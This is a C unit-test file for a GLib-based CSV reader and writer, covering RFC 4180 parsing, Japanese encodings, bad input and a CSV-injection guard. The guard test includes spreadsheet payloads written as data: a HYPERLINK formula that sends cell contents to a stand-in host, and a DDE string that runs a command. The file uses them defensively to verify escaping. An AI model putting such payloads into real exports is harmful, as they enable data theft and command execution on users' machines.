/* SPDX-License-Identifier: GPL-3.0-or-later */
/* CSV: RFC 4180 cases (csv-spectrum), encodings, bad input, the writer. */
#include "config.h"

#include <json-glib/json-glib.h>
#include <locale.h>
#include <string.h>

#include "tsu-csv.h"

static char *
data_path (const char *name)
{
  const char *root = g_getenv ("TSU_SOURCE_ROOT");

  g_assert_nonnull (root);
  return g_build_filename (root, "tests", "jp", "data", name, NULL);
}

static GPtrArray *
parse_str (const char *s, TsuCsvEncoding *enc, GError **error)
{
  return tsu_csv_parse (s, strlen (s), enc, error);
}

/* Rows joined as "a|b/c|d" for compact comparisons. */
static char *
flat (GPtrArray *rows)
{
  GString *s = g_string_new (NULL);

  for (guint r = 0; r < rows->len; r++)
    {
      g_autofree char *row = g_strjoinv ("|", g_ptr_array_index (rows, r));

      if (r > 0)
        g_string_append_c (s, '/');
      g_string_append (s, row);
    }
  return g_string_free (s, FALSE);
}

static void
test_rfc4180 (void)
{
  static const struct
  {
    const char *in, *out;
  } cases[] = {
    { "a,b,c\r\n1,2,3\r\n", "a|b|c/1|2|3" },
    { "a,b,c\n1,2,3\n", "a|b|c/1|2|3" },
    { "a,b,c\n1,2,3", "a|b|c/1|2|3" },
    { "a,b\r1,2\r", "a|b/1|2" },
    { "a,\"b,c\"\n", "a|b,c" },
    { "\"x \"\"y\"\" z\",2", "x \"y\" z|2" },
    { "\"line1\nline2\",2\r\n3,4", "line1\nline2|2/3|4" },
    { "\"line1\r\nline2\",2", "line1\r\nline2|2" },
    { "a,,c\n,,\n", "a||c/||" },
    { "a,b,", "a|b|" },
    { "\"\"", "" },
    { "x\n\ny", "x//y" },
    { "a\"b,c", "a\"b|c" },
    { "髙橋,山﨑\n①,㈱", "髙橋|山﨑/①|㈱" },
    { "\"\",\"\"\n", "|" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr (GError) error = NULL;
      TsuCsvEncoding enc = 99;
      g_autoptr (GPtrArray) rows = parse_str (cases[i].in, &enc, &error);
      g_autofree char *f = NULL;

      g_assert_no_error (error);
      f = flat (rows);
      if (strcmp (f, cases[i].out) != 0)
        g_error ("case %u: got [%s] expected [%s]", i, f, cases[i].out);
      g_assert_cmpint (enc, ==, TSU_CSV_ENCODING_UTF8);
    }
}

/* csv-spectrum: each csvs/X.csv reads as json/X.json (header row as keys). */
static void
test_csv_spectrum (void)
{
  const char      *shared = g_getenv ("TSU_SHARED_DATA");
  g_autofree char *dir = NULL;
  g_autoptr (GDir) d = NULL;
  const char *name;
  guint       n = 0;

  if (shared != NULL)
    dir = g_build_filename (shared, "csv-spectrum", "csvs", NULL);
  if (dir == NULL || (d = g_dir_open (dir, 0, NULL)) == NULL)
    {
      g_test_skip ("csv-spectrum not found (TSU_SHARED_DATA)");
      return;
    }

  while ((name = g_dir_read_name (d)) != NULL)
    {
      g_autofree char *csv = g_build_filename (dir, name, NULL);
      g_autofree char *base = g_strndup (name, strlen (name) - 4);
      g_autofree char *json_name = g_strconcat (base, ".json", NULL);
      g_autofree char *json = g_build_filename (shared, "csv-spectrum", "json", json_name, NULL);
      g_autoptr (JsonParser) parser = json_parser_new ();
      g_autoptr (GError) error = NULL;
      g_autoptr (GPtrArray) rows = NULL;
      JsonArray *want;
      char     **header;

      if (!g_str_has_suffix (name, ".csv"))
        continue;
      rows = tsu_csv_parse_file (csv, NULL, &error);
      g_assert_no_error (error);
      json_parser_load_from_file (parser, json, &error);
      g_assert_no_error (error);
      want = json_node_get_array (json_parser_get_root (parser));
      g_assert_true (tsu_csv_check_width (rows, &error));
      g_assert_no_error (error);

      header = g_ptr_array_index (rows, 0);
      g_assert_cmpuint (rows->len - 1, ==, json_array_get_length (want));
      for (guint r = 1; r < rows->len; r++)
        {
          JsonObject *obj = json_array_get_object_element (want, r - 1);
          char      **row = g_ptr_array_index (rows, r);

          for (guint f = 0; header[f] != NULL; f++)
            {
              const char *expected = json_object_get_string_member (obj, header[f]);

              /* The stored *_crlf.csv files have LF line ends (the line
               * ends were converted when they were copied) while the JSON
               * keeps CRLF inside fields: compare those line breaks
               * loosely, for those files only. */
              if (g_str_has_suffix (base, "_crlf") && strstr (expected, "\r\n") != NULL
                  && strstr (row[f], "\r\n") == NULL)
                {
                  g_autoptr (GString) lf = g_string_new (expected);

                  g_string_replace (lf, "\r\n", "\n", 0);
                  g_assert_cmpstr (row[f], ==, lf->str);
                }
              else
                g_assert_cmpstr (row[f], ==, expected);
            }
        }
      n++;
    }
  g_test_message ("%u csv-spectrum cases", n);
  g_assert_cmpuint (n, >=, 10);
}

static void
test_encodings (void)
{
  g_autoptr (GError) error = NULL;
  g_autofree char *cp932 = data_path ("cp932.csv");
  g_autofree char *bom = data_path ("utf8-bom.csv");
  TsuCsvEncoding   enc;
  g_autoptr (GPtrArray) rows = tsu_csv_parse_file (cp932, &enc, &error);
  g_autoptr (GPtrArray) rows2 = NULL;
  g_autofree char *f = NULL;
  g_autofree char *f2 = NULL;

  g_assert_no_error (error);
  g_assert_cmpint (enc, ==, TSU_CSV_ENCODING_CP932);
  f = flat (rows);
  g_assert_cmpstr (f, ==,
                   "番号|氏名|団体|メモ/1|髙橋 一郎|㈱つなぐ|①～③/"
                   "2|山﨑 花子|有明の森, NPO|改行\r\nあり/3|ﾊﾝｶｸ|－|∥￢");
  g_assert_true (tsu_csv_check_width (rows, &error));

  rows2 = tsu_csv_parse_file (bom, &enc, &error);
  g_assert_no_error (error);
  g_assert_cmpint (enc, ==, TSU_CSV_ENCODING_UTF8_BOM);
  f2 = flat (rows2);
  g_assert_cmpstr (f2, ==, "氏名|ふりがな/髙橋|たかはし");
}

static void
assert_error_at (const char *data, gsize len, int code, const char *where)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (GPtrArray) rows = tsu_csv_parse (data, len, NULL, &error);

  g_assert_null (rows);
  g_assert_error (error, TSU_CSV_ERROR, code);
  if (where != NULL && strstr (error->message, where) == NULL)
    g_error ("message “%s” does not say “%s”", error->message, where);
}

static void
test_bad_input (void)
{
  g_autofree char *bad = data_path ("bad-cp932.csv");
  g_autofree char *bad_data = NULL;
  gsize            bad_len;
  g_autoptr (GError) error = NULL;

  assert_error_at ("", 0, TSU_CSV_ERROR_EMPTY, NULL);
  assert_error_at ("\xEF\xBB\xBF", 3, TSU_CSV_ERROR_EMPTY, NULL);
  assert_error_at ("a,b\n1,\"open\n2,3\n", 16, TSU_CSV_ERROR_UNCLOSED_QUOTE, "Line 2, column 3");
  assert_error_at ("a,b\n\"x\"y,2\n", 11, TSU_CSV_ERROR_BAD_QUOTE, "Line 2, column 4");
  assert_error_at ("\xEF\xBB\xBF"
                   "a,b\nc,\xff\n",
                   11, TSU_CSV_ERROR_ENCODING, "Line 2, column 3");
  assert_error_at ("a,b\nc,d\0e\n", 10, TSU_CSV_ERROR_ENCODING, "Line 2, column 4");
  assert_error_at ("\xFF\xFE"
                   "a\0,\0b\0",
                   8, TSU_CSV_ERROR_ENCODING, "UTF-16");

  g_assert_true (g_file_get_contents (bad, &bad_data, &bad_len, NULL));
  assert_error_at (bad_data, bad_len, TSU_CSV_ERROR_ENCODING, "Line 3, column 3");

  /* Too many / too few fields, by line (a record over two lines counts by
   * its first line; blank lines are allowed). */
  {
    g_autoptr (GPtrArray) rows = parse_str ("a,b\n\"1\n1\",2\n\n3,4,5\n", NULL, &error);

    g_assert_no_error (error);
    g_assert_false (tsu_csv_check_width (rows, &error));
    g_assert_error (error, TSU_CSV_ERROR, TSU_CSV_ERROR_WIDTH);
    g_assert_nonnull (strstr (error->message, "Line 5 "));
    g_clear_error (&error);
  }
  {
    g_autoptr (GPtrArray) rows = parse_str ("a,b,c\n1,2\n", NULL, &error);

    g_assert_false (tsu_csv_check_width (rows, &error));
    g_assert_nonnull (strstr (error->message, "Line 2 "));
    g_clear_error (&error);
  }
}

/* A 100 MB single line: an error, quickly, no crash. */
static void
test_huge_line (void)
{
  gsize            size = 100 * 1024 * 1024;
  g_autofree char *data = g_malloc (size);
  g_autoptr (GError) error = NULL;
  g_autoptr (GPtrArray) rows = NULL;
  gint64 t0 = g_get_monotonic_time ();

  memset (data, 'x', size);
  memcpy (data, "a,", 2);
  rows = tsu_csv_parse (data, size, NULL, &error);
  g_assert_null (rows);
  g_assert_error (error, TSU_CSV_ERROR, TSU_CSV_ERROR_FIELD_TOO_LONG);
  g_assert_nonnull (strstr (error->message, "Line 1, column 3"));
  g_clear_error (&error);

  /* Quoted, and then a line of 100 MB of commas (too many fields). */
  data[0] = '"';
  rows = tsu_csv_parse (data, size, NULL, &error);
  g_assert_null (rows);
  g_assert_error (error, TSU_CSV_ERROR, TSU_CSV_ERROR_FIELD_TOO_LONG);
  g_clear_error (&error);

  memset (data, ',', size);
  rows = tsu_csv_parse (data, size, NULL, &error);
  g_assert_null (rows);
  g_assert_error (error, TSU_CSV_ERROR, TSU_CSV_ERROR_FIELD_TOO_LONG);
  g_test_message ("three 100 MB lines rejected in %.1f s", (g_get_monotonic_time () - t0) / 1e6);
}

static GPtrArray *
rows_of (const char *const *const *table)
{
  GPtrArray *rows = g_ptr_array_new_with_free_func ((GDestroyNotify)g_strfreev);

  for (guint r = 0; table[r] != NULL; r++)
    g_ptr_array_add (rows, g_strdupv ((char **)table[r]));
  return rows;
}

static void
test_writer (void)
{
  static const char *const        r0[] = { "氏名", "メモ", "空", NULL };
  static const char *const        r1[] = { "髙橋", "a,b \"c\"\nd", "", NULL };
  static const char *const        r2[] = { " lead", "山﨑①㈱～", "x", NULL };
  static const char *const *const table[] = { r0, r1, r2, NULL };
  g_autoptr (GPtrArray) rows = rows_of (table);
  g_autoptr (GError) error = NULL;
  g_autoptr (GBytes) utf8 = tsu_csv_write (rows, TSU_CSV_ENCODING_UTF8_BOM, FALSE, NULL, &error);
  g_autoptr (GBytes) cp = NULL;
  g_autoptr (GPtrArray) back = NULL;
  g_autoptr (GPtrArray) back2 = NULL;
  g_autofree char *f0 = flat (rows);
  g_autofree char *f1 = NULL;
  g_autofree char *f2 = NULL;
  TsuCsvEncoding   enc;
  gsize            len;
  const char      *p = g_bytes_get_data (utf8, &len);

  g_assert_no_error (error);
  g_assert_true (len > 3 && memcmp (p, "\xEF\xBB\xBF", 3) == 0);
  g_assert_nonnull (g_strstr_len (p, len, "\r\n"));
  g_assert_nonnull (g_strstr_len (p, len, "\"a,b \"\"c\"\"\nd\""));
  g_assert_nonnull (g_strstr_len (p, len, "\" lead\""));
  g_assert_true (len >= 2 && p[len - 2] == '\r' && p[len - 1] == '\n');

  back = tsu_csv_parse (p, len, &enc, &error);
  g_assert_no_error (error);
  g_assert_cmpint (enc, ==, TSU_CSV_ENCODING_UTF8_BOM);
  f1 = flat (back);
  g_assert_cmpstr (f1, ==, f0);

  cp = tsu_csv_write (rows, TSU_CSV_ENCODING_CP932, FALSE, NULL, &error);
  g_assert_no_error (error);
  p = g_bytes_get_data (cp, &len);
  back2 = tsu_csv_parse (p, len, &enc, &error);
  g_assert_no_error (error);
  g_assert_cmpint (enc, ==, TSU_CSV_ENCODING_CP932);
  f2 = flat (back2);
  g_assert_cmpstr (f2, ==, f0);

  /* Plain UTF-8: no BOM. */
  {
    g_autoptr (GBytes) plain = tsu_csv_write (rows, TSU_CSV_ENCODING_UTF8, FALSE, NULL, &error);
    const char *q = g_bytes_get_data (plain, &len);

    g_assert_no_error (error);
    g_assert_true (len > 3 && memcmp (q, "氏名", strlen ("氏名")) == 0);
  }
}

/* CSV injection (OWASP): cells a spreadsheet would run are guarded, and
 * our own reader gives back every value exactly. */
static void
test_formula_guard (void)
{
  static const char *const values[] = {
    "=HYPERLINK(\"http://example.jp/x?\"&A1,\"詳細\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\tx",
    "\r=1",
    "'=1",
    "''",
    "'",
    "'a",
    "a=b",
    "",
    "大牟田市",
    "'''=",
    "＝1",
    "+81-944-00-0000",
    NULL,
  };
  g_autoptr (GPtrArray) rows = g_ptr_array_new_with_free_func ((GDestroyNotify)g_strfreev);
  g_autoptr (GError) error = NULL;
  TsuCsvEncoding encodings[] = { TSU_CSV_ENCODING_UTF8_BOM, TSU_CSV_ENCODING_CP932 };

  /* One column per value, as one row under a header. */
  {
    GStrv header = g_new0 (char *, G_N_ELEMENTS (values));

    for (guint i = 0; values[i]; i++)
      header[i] = g_strdup_printf ("c%u", i);
    g_ptr_array_add (rows, header);
    g_ptr_array_add (rows, g_strdupv ((char **)values));
  }

  for (guint e = 0; e < G_N_ELEMENTS (encodings); e++)
    {
      g_autoptr (GBytes) out = tsu_csv_write (rows, encodings[e], FALSE, NULL, &error);
      g_autoptr (GPtrArray) raw = NULL;
      g_autoptr (GPtrArray) back = NULL;
      const char *p;
      gsize       len;
      char      **cells;

      g_assert_no_error (error);
      p = g_bytes_get_data (out, &len);

      /* What a spreadsheet sees: no cell starts with a trigger. */
      raw = tsu_csv_parse_full (p, len, TSU_CSV_FLAGS_NO_FORMULA_GUARD, NULL, &error);
      g_assert_no_error (error);
      cells = g_ptr_array_index (raw, 1);
      for (guint i = 0; values[i]; i++)
        {
          g_assert_false (cells[i][0] != '\0' && strchr ("=+-@\t\r", cells[i][0]) != NULL);
          if (tsu_csv_cell_needs_guard (values[i]))
            {
              g_assert_cmpint (cells[i][0], ==, '\'');
              g_assert_cmpstr (cells[i] + 1, ==, values[i]);
            }
          else
            g_assert_cmpstr (cells[i], ==, values[i]);
        }
      g_assert_cmpstr (cells[0], ==, "'=HYPERLINK(\"http://example.jp/x?\"&A1,\"詳細\")");
      g_assert_cmpstr (cells[1], ==, "'+cmd|' /C calc'!A0");
      g_assert_cmpstr (cells[2], ==, "'@SUM(1)");
      g_assert_cmpstr (cells[3], ==, "'-2+3");
      g_assert_cmpstr (cells[6], ==, "''=1");
      g_assert_cmpstr (cells[8], ==, "'");
      g_assert_cmpstr (cells[9], ==, "'a");

      /* Our own reader: every value exactly. */
      back = tsu_csv_parse (p, len, NULL, &error);
      g_assert_no_error (error);
      g_assert_true (g_strv_equal (g_ptr_array_index (back, 1), values));
    }

  /* A string constant of digits (an export's 法人番号) runs nothing; any
   * other formula does. */
  g_assert_false (tsu_csv_cell_needs_guard ("=\"1234567890123\""));
  g_assert_true (tsu_csv_cell_needs_guard ("=\"123\"&A1"));
  g_assert_true (tsu_csv_cell_needs_guard ("=\"12a\""));
  g_assert_true (tsu_csv_cell_needs_guard ("=\"\""));
  g_assert_true (tsu_csv_cell_needs_guard ("=\"1\"\"\""));

  /* Off: verbatim both ways. */
  {
    g_autoptr (GBytes) out = tsu_csv_write_full (
        rows, TSU_CSV_ENCODING_UTF8, TSU_CSV_FLAGS_NO_FORMULA_GUARD, FALSE, NULL, &error);
    gsize       len;
    const char *p = g_bytes_get_data (out, &len);

    g_assert_no_error (error);
    g_assert_nonnull (g_strstr_len (p, len, "\r\n\"=HYPERLINK("));
    g_assert_nonnull (g_strstr_len (p, len, ",@SUM(1),-2+3,"));
  }

  /* A file typed by hand: the apostrophe a spreadsheet user types before
   * a formula character goes; any other stays. */
  {
    g_autoptr (GPtrArray) typed = parse_str ("a,b,c\n'=1,'abc,''\n", NULL, &error);
    g_autofree char *f = flat (typed);

    g_assert_no_error (error);
    g_assert_cmpstr (f, ==, "a|b|c/=1|'abc|'");
  }

  /* The rule is a bijection: every string over the characters that matter,
   * up to four long, comes back from guard → unguard, and two different
   * values are never written the same. */
  {
    static const char alphabet[] = "=+-@\t\r'a";
    g_autoptr (GHashTable) written = g_hash_table_new_full (g_str_hash, g_str_equal, g_free, NULL);
    guint n_alpha = strlen (alphabet), total = 0;

    for (guint len = 0; len <= 4; len++)
      {
        guint count = 1;

        for (guint k = 0; k < len; k++)
          count *= n_alpha;
        for (guint code = 0; code < count; code++)
          {
            char             v[5] = { 0 };
            guint            c = code;
            char            *g;
            g_autofree char *u = NULL;

            for (guint k = 0; k < len; k++, c /= n_alpha)
              v[k] = alphabet[c % n_alpha];
            g = tsu_csv_guard_cell (v);
            u = tsu_csv_unguard_cell (g);
            g_assert_cmpstr (u, ==, v);
            g_assert_false (g[0] != '\0' && strchr ("=+-@\t\r", g[0]) != NULL);
            g_assert_false (g_hash_table_contains (written, g));
            g_hash_table_add (written, g);
            total++;
          }
      }
    g_assert_cmpuint (g_hash_table_size (written), ==, total);
  }
}

/* A NUL byte is named with its own line, whatever the rest of the file is
 * (before, a UTF-8 file with one NUL was guessed CP932 and blamed on line 1). */
static void
test_nul_byte (void)
{
  static const char utf8[] = "団体名,団体名フリガナ\n大牟田の会,オオムタノカイ\n三池"
                             "\0の会,ミイケノカイ\n";
  g_autoptr (GError) error = NULL;
  GPtrArray *rows = tsu_csv_parse (utf8, sizeof utf8 - 1, NULL, &error);

  g_assert_null (rows);
  g_assert_error (error, TSU_CSV_ERROR, TSU_CSV_ERROR_ENCODING);
  g_assert_nonnull (strstr (error->message, "Line 3, column 3"));
  g_assert_nonnull (strstr (error->message, "NUL byte"));
  g_clear_error (&error);

  /* The same after a BOM, and in CP932 (三池 = 8E 4F 92 72). */
  {
    static const char bom[] = "\xEF\xBB\xBF"
                              "a,b\nc,d\nef,\0g\n";

    rows = tsu_csv_parse (bom, sizeof bom - 1, NULL, &error);
    g_assert_null (rows);
    g_assert_nonnull (strstr (error->message, "Line 3, column 4"));
    g_assert_nonnull (strstr (error->message, "NUL byte"));
    g_clear_error (&error);
  }
  {
    static const char cp932[] = "a,b\r\nc,d\r\n\x8E\x4F\x92\x72\0,x\r\n";

    rows = tsu_csv_parse (cp932, sizeof cp932 - 1, NULL, &error);
    g_assert_null (rows);
    g_assert_nonnull (strstr (error->message, "Line 3, column 3"));
    g_clear_error (&error);
  }
}

static void
test_writer_unencodable (void)
{
  static const char *const r0[] = { "name", NULL };
  static const char *const r1[] = { "𠮷野家 🍜 쉼", NULL };  /* none of these are in CP932 */
  static const char *const r2[] = { "𠮷田 〜 − 髙", NULL }; /* 〜 and − map to CP932's forms */
  static const char *const *const table[] = { r0, r1, r2, NULL };
  g_autoptr (GPtrArray) rows = rows_of (table);
  g_autoptr (GPtrArray) bad = g_ptr_array_new_with_free_func (g_free);
  g_autoptr (GError) error = NULL;
  g_autoptr (GBytes) out = tsu_csv_write (rows, TSU_CSV_ENCODING_CP932, FALSE, bad, &error);
  g_autoptr (GBytes) replaced = NULL;
  g_autoptr (GPtrArray) back = NULL;
  const char *p;
  gsize       len;

  g_assert_null (out);
  g_assert_error (error, TSU_CSV_ERROR, TSU_CSV_ERROR_UNENCODABLE);
  g_assert_nonnull (strstr (error->message, "𠮷"));
  g_assert_cmpuint (bad->len, ==, 3);
  g_assert_cmpstr (g_ptr_array_index (bad, 0), ==, "𠮷");
  g_assert_cmpstr (g_ptr_array_index (bad, 1), ==, "🍜");
  g_assert_cmpstr (g_ptr_array_index (bad, 2), ==, "쉼");
  g_clear_error (&error);

  g_ptr_array_set_size (bad, 0);
  replaced = tsu_csv_write (rows, TSU_CSV_ENCODING_CP932, TRUE, bad, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (bad->len, ==, 3);
  p = g_bytes_get_data (replaced, &len);
  back = tsu_csv_parse (p, len, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (((char **)g_ptr_array_index (back, 1))[0], ==, "〓野家 〓 〓");
  g_assert_cmpstr (((char **)g_ptr_array_index (back, 2))[0], ==, "〓田 ～ － 髙");

  /* The list may be NULL. */
  {
    g_autoptr (GBytes) again = tsu_csv_write (rows, TSU_CSV_ENCODING_CP932, FALSE, NULL, &error);

    g_assert_null (again);
    g_assert_error (error, TSU_CSV_ERROR, TSU_CSV_ERROR_UNENCODABLE);
  }
}

int
main (int argc, char **argv)
{
  setlocale (LC_ALL, "");
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/jp/csv/rfc4180", test_rfc4180);
  g_test_add_func ("/jp/csv/csv-spectrum", test_csv_spectrum);
  g_test_add_func ("/jp/csv/encodings", test_encodings);
  g_test_add_func ("/jp/csv/bad-input", test_bad_input);
  g_test_add_func ("/jp/csv/huge-line", test_huge_line);
  g_test_add_func ("/jp/csv/writer", test_writer);
  g_test_add_func ("/jp/csv/writer-unencodable", test_writer_unencodable);
  g_test_add_func ("/jp/csv/formula-guard", test_formula_guard);
  g_test_add_func ("/jp/csv/nul-byte", test_nul_byte);
  return g_test_run ();
}
